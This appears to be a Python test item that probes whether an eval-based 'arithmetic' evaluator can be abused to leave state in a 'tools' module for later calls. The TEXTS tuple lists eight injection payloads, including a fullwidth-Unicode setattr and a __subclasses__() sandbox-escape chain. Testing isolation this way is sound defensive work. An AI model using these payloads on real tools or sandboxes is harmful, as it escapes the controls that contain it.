"""Has text evaluated that looks like arithmetic, to leave something for the next call.

stopped_by: text leaves no trace only if it cannot name anything; all other text costs the worker
plain bwrap: stopped
"""

import sys

TEXTS = (
    "(lambda names: names.update(left=1))(__import__('sys').modules['tools'].__dict__)",
    "[names.update(left=1) for names in [__import__('sys').modules['tools'].__dict__]]",
    "__import__('sys').modules['tools'].__setattr__('left', 1)",
    "().__class__.__base__.__subclasses__()[0].mro",
    'f\'{__import__("sys").modules["tools"].__dict__.update(left=1)}\'',
    "ｓｅｔａｔｔｒ(__import__('sys').modules['tools'], 'left', 1)",
    "1 if setattr(__import__('sys').modules['tools'], 'left', 1) else 2",
    "(left := 1)",
)


def attack():
    for text in TEXTS:
        eval(text, sys.modules["tools"].__dict__)
    return 0.0


def check():
    return float(hasattr(sys.modules["tools"], "left"))
